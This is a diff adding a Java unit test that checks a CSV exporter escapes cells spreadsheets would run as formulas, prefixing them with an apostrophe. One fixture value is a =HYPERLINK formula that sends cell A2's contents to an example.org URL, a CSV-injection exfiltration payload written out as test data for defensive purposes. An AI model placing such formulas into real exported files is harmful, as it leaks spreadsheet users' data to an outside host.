@@ -77,4 +77,34 @@ class OpenDataTest {
     assertTrue(ru5.get("steps").contains("\n"), "list items one a line"); // quoted, so the row stays one record
     assertEquals(records.get(24).practice().text(org.practicefinder.model.Section.STEPS).orElseThrow(), ru5.get("steps"));
   }
+
+  @Test
+  void csvCellsThatSpreadsheetsWouldRunAsFormulasAreText() throws Exception {
+    // An added practice's fields as a contributor may write them: a formula, a name and an address
+    // beginning with + or -, a section written as a dash list, a step beginning with @.
+    String file = """
+        [{"id": "UA-night-line-kyiv", "title": "=HYPERLINK(\\"https://example.org/?d=\\"&A2,\\"Details\\")",
+          "organisation": "+Plus Foundation", "country": "Ukraine", "contact": "-help@example.org",
+          "sections": {"challenge": "- no services at night; - police raids", "action": "Peers answer a phone line.",
+                       "steps": ["@home visits", "a second step"]}}]""";
+    PracticeFile.Result added = new PracticeFile().read("added.json", file, Set.of());
+    assertEquals(List.of(), added.errors());
+    StringBuilder out = new StringBuilder();
+    new PracticeCsv(List.of("population")).write(tagged(added.practices()), out);
+    CSVRecord row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new StringReader(out.toString())).getRecords().get(0);
+    assertEquals("UA-night-line-kyiv", row.get("id"));
+    assertEquals("'=HYPERLINK(\"https://example.org/?d=\"&A2,\"Details\")", row.get("title"));
+    assertEquals("'+Plus Foundation", row.get("organisation"));
+    assertEquals("'-help@example.org", row.get("contact"));
+    assertEquals("'- no services at night; - police raids", row.get("challenge"));
+    assertEquals("Peers answer a phone line.", row.get("action"));
+    assertEquals("'@home visits\na second step", row.get("steps"));
+    assertEquals("Ukraine", row.get("country"));
+    // a file's text is trimmed, so a leading tab or carriage return reaches the writer only from elsewhere
+    assertEquals("'\t=1+1", PracticeCsv.text("\t=1+1"));
+    assertEquals("'\r=1+1", PracticeCsv.text("\r=1+1"));
+    assertEquals(" =1+1", PracticeCsv.text(" =1+1"));
+    assertEquals("UA-1", PracticeCsv.text("UA-1"));
+  }
 }
